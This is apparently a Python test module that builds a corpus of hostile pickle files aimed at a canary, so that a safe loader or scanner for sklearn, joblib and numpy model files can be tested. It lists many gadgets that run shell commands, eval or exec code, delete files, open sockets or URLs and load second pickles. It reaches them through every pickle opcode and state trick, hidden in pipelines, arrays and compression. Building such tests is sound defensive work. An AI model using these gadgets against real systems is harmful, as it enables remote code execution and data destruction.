"""Hostile pickles, one for each way to get something done that is known here; none is kept as a file.

`families` are fragments of pickles that would touch a canary. `corpus` has each of them plain, in a pipeline and in
arrays of objects, compressed six ways.
"""

from __future__ import annotations

import bz2
import gzip
import lzma
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.hostile import corrupt
from tests.hostile.canary import ADDRESS, Canary
from tests.hostile.opcodes import (
    Fragment,
    again,
    array,
    built,
    call,
    dtype,
    instance,
    named,
    noted,
    value,
    whole,
    wrapped,
)

COMPRESSIONS: dict[str, Callable[[bytes], bytes]] = {
    "plain": bytes,
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "lzma": lambda raw: lzma.compress(raw, lzma.FORMAT_ALONE, preset=0),
    "xz": lambda raw: lzma.compress(raw, lzma.FORMAT_XZ, preset=0),
}
SCALER = "sklearn.preprocessing._data:StandardScaler"
PIPELINE = "sklearn.pipeline:Pipeline"


@dataclass(frozen=True)
class Hostile:
    """One hostile file: its family, the way it is hidden, how it is compressed."""

    family: str
    hidden: str
    compression: str
    raw: bytes

    def __str__(self) -> str:
        return f"{self.family}, {self.hidden}, {self.compression}"


def corpus(canary: Canary, compressions: tuple[str, ...] = tuple(COMPRESSIONS)) -> Iterator[Hostile]:
    """Yield every hostile file."""
    for family, fragment in families(canary).items():
        for hidden, hide in HIDDEN.items():
            raw = hide(fragment)
            for compression in compressions:
                yield Hostile(family, hidden, compression, COMPRESSIONS[compression](raw))
    for family, raw in whole_files(canary).items():
        yield Hostile(family, "whole", "plain", raw)


HIDDEN: dict[str, Callable[[bytes], bytes]] = {
    "alone": whole,
    "in a pipeline": lambda inner: whole(
        built(instance(named(PIPELINE)), {"steps": [("scale", instance(named(SCALER))), ("x", Fragment(inner))]})
    ),
    "in an array": lambda inner: whole(array(dtype("O"), (1,), [Fragment(inner)])),
    "in an array of joblib's": lambda inner: whole(
        wrapped(dtype("O"), (1,), whole(array(dtype("O"), (1,), [Fragment(inner)])))
    ),
}


def families(canary: Canary) -> dict[str, bytes]:
    """Return a fragment for each gadget."""
    return {
        **_by_name(canary),
        **_by_opcode(canary),
        **_by_state(canary),
        **corrupt.memory(canary),
    }


def _by_name(canary: Canary) -> dict[str, bytes]:
    """Functions that run, open, connect, delete or load, called with REDUCE."""
    command, code = canary.command, canary.code
    calls: dict[str, tuple[object, ...]] = {
        "os:system": (command,),
        "posix:system": (command,),
        "nt:system": (command,),
        "os:popen": (command,),
        "os:remove": (canary.victim,),
        "os:mkfifo": (canary.touched,),
        "shutil:rmtree": (canary.directory,),
        "subprocess:call": (["/bin/sh", "-c", command],),
        "subprocess:Popen": (["/bin/sh", "-c", command],),
        "pty:spawn": (["/bin/sh", "-c", command],),
        "builtins:eval": (code,),
        "builtins:exec": (code,),
        "__builtin__:eval": (code,),
        "builtins:open": (canary.touched, "w"),
        "io:open": (canary.touched, "w"),
        "builtins:__import__": ("antigravity",),
        "builtins:getattr": (named("os:path"), "join"),
        "importlib:import_module": ("antigravity",),
        "code:interact": ("",),
        "timeit:timeit": (code, "pass", Fragment(named("time:time")), 1),
        "runpy:run_path": (canary.script,),
        "socket:create_connection": ((ADDRESS, canary.port),),
        "urllib.request:urlopen": (f"http://{ADDRESS}:{canary.port}/",),
        "pickle:loads": (canary.second,),
        "joblib.numpy_pickle:load": (canary.second_path,),
        "joblib:load": (canary.second_path,),
        "joblib.disk:delete_folder": (canary.directory,),
        "numpy:load": (canary.second_path, None, True),
        "numpy:fromfile": (canary.victim,),
        "numpy:memmap": (canary.touched, named("numpy:float64"), "w+", 0, (4,)),
        "numpy.ctypeslib:load_library": (canary.library, canary.directory),
        "numpy.testing._private.utils:runstring": (code, {}),
        "numpy.f2py.crackfortran:myeval": (code,),
        "numpy.lib._npyio_impl:save": (canary.touched, 1),
        "scipy._lib._uarray._backend:unpickle_function": ("os", "system", None),
        "sklearn.datasets._base:os.system": (command,),
        "joblib.numpy_pickle:os.remove": (canary.victim,),
        "sklearn.pipeline:Pipeline.__init__.__globals__": (),
        "sklearn.utils._testing:_delete_folder": (canary.directory,),
        "sklearn.datasets._base:load_files": (canary.directory,),
        "sklearn.datasets._svmlight_format_io:dump_svmlight_file": ([[1]], [1], canary.touched),
        "pandas.io.pickle:read_pickle": (canary.second_path,),
        "logging:FileHandler": (canary.touched,),
    }
    return {f"calls {name}": call(named(name), *arguments) for name, arguments in calls.items()}


def _by_opcode(canary: Canary) -> dict[str, bytes]:
    """The same function, named and called in every way a pickle can."""
    system, command = named("os:system"), value(canary.command)
    old = b"c" + b"os\nsystem\n"
    evil = value({"func": system, "args": (canary.command,)})
    functions = {"func": system, "inverse_func": None, "validate": False, "kw_args": {}, "inv_kw_args": None}
    transformer = named("sklearn.preprocessing._function_transformer:FunctionTransformer")
    fields = (system, (canary.command,), {}, None)
    partial = built(call(named("functools:partial"), named("sklearn.utils.validation:check_array")), fields)
    return {
        "GLOBAL": old + b"(" + command + b"tR",
        "INST": b"(" + command + b"ios\nsystem\n",
        "OBJ": b"(" + system + command + b"o",
        "NEWOBJ": instance(named("subprocess:Popen"), ["/bin/sh", "-c", canary.command]),
        "NEWOBJ_EX": named("subprocess:Popen") + value((["/bin/sh", "-c", canary.command],)) + b"}\x92",
        "EXT1": b"\x82\x01(" + command + b"tR",
        "EXT2": b"\x83\x01\x00(" + command + b"tR",
        "EXT4": b"\x84\x01\x00\x00\x00(" + command + b"tR",
        "PERSID": b"Pos.system\n",
        "BINPERSID": command + b"Q",
        "NEXT_BUFFER": b"\x97",
        "READONLY_BUFFER": command + b"\x98",
        "a function in a dict": evil,
        "a transformer of a function": built(instance(transformer), functions),
        "a partial of a listed function": partial,
        "a partial of a function": call(named("functools:partial"), system, canary.command),
        "a random state of a callable": call(
            named("numpy.random._pickle:__randomstate_ctor"), canary.command, named("os:system")
        ),
        "a generator of a callable": call(
            named("numpy.random._pickle:__generator_ctor"), canary.command, named("sklearn.pipeline:Pipeline")
        ),
        "a tree of another class": call(named("sklearn.neighbors._kd_tree:newObj"), named("subprocess:Popen")),
        "a default factory": call(named("collections:defaultdict"), named("sklearn.pipeline:Pipeline")),
    }


def _by_state(canary: Canary) -> dict[str, bytes]:
    """Attributes and items that change what an object is."""
    scaler = instance(named(SCALER))
    matrix = instance(named("scipy.sparse._csr:csr_matrix"))
    bunch = instance(named("sklearn.utils._bunch:Bunch"))
    address = {"data": (4096, False), "typestr": "<f8", "shape": (4,), "version": 3}
    ordered = call(named("collections:OrderedDict"))
    distribution = instance(named("scipy.stats._continuous_distns:norm_gen"))
    return {
        "a state that is a function": built(scaler, {"__setstate__": named("os:system")})
        + value(canary.command)
        + b"b",
        "a class in a state": built(scaler, {"__class__": named(PIPELINE)}),
        "a class in slots": built(
            instance(named("sklearn._loss.link:LogLink")), (None, {"__class__": named(PIPELINE)})
        ),
        "a state of a class": built(named(PIPELINE), {"predict": 1}),
        "a state of a ufunc": built(named("numpy:exp"), {"x": 1}),
        "a method in a state": built(scaler, {"transform": named("numpy:exp")}),
        "a check that always passes": built(matrix, {"check_format": named("builtins:dict")}),
        "an address in a Bunch": bunch + value("__array_interface__") + value(address) + b"s",
        "addresses in a Bunch": bunch + b"(" + value("__array_interface__") + value(address) + b"u",
        "an address in an estimator": built(scaler, {"__array_interface__": address}),
        "a method of a dict": built(ordered, {"get": named("builtins:bool")}),
        "a state that is no dict": built(scaler, call(named("collections:OrderedDict"), [["a", 1]])),
        "a state that is text": built(
            distribution, {"_parse_arg_template": canary.code, "moment_type": 0, "_ctor_param": {}}
        ),
        "items of an array": array(dtype("f8"), (1,), bytes(8)) + value(0) + value(1) + b"s",
        "an item of an estimator": scaler + value("with_mean") + value(1) + b"s",
        "appended to an estimator": scaler + value(1) + b"a",
        "added to an estimator": scaler + b"(" + value(1) + b"\x90",
        "a vectorizer of files": built(
            instance(named("sklearn.feature_extraction.text:CountVectorizer")), {"input": "filename"}
        ),
        "an old wrapper": built(
            instance(named("joblib.numpy_pickle_compat:NDArrayWrapper")),
            {"filename": canary.second_path, "subclass": named("numpy:ndarray"), "allow_mmap": False},
        ),
        "a second state": noted(scaler, 1) + value({"a": 1}) + b"b" + b"0" + again(1) + value({"a": 2}) + b"b",
    }


def whole_files(canary: Canary) -> dict[str, bytes]:
    """Return files that are hostile as a whole: old formats, and bytes that are not looked at."""
    inner = canary.second
    packed = zlib.compress(inner)
    header = b"ZF" + hex(len(inner)).encode().ljust(19, b" ")
    return {
        "the old zip format": header + packed,
        "two pickles": whole(value(1)) + inner,
        "a pickle of protocol 0": b"cos\nsystem\n(S'" + canary.command.encode() + b"'\ntR.",
    }
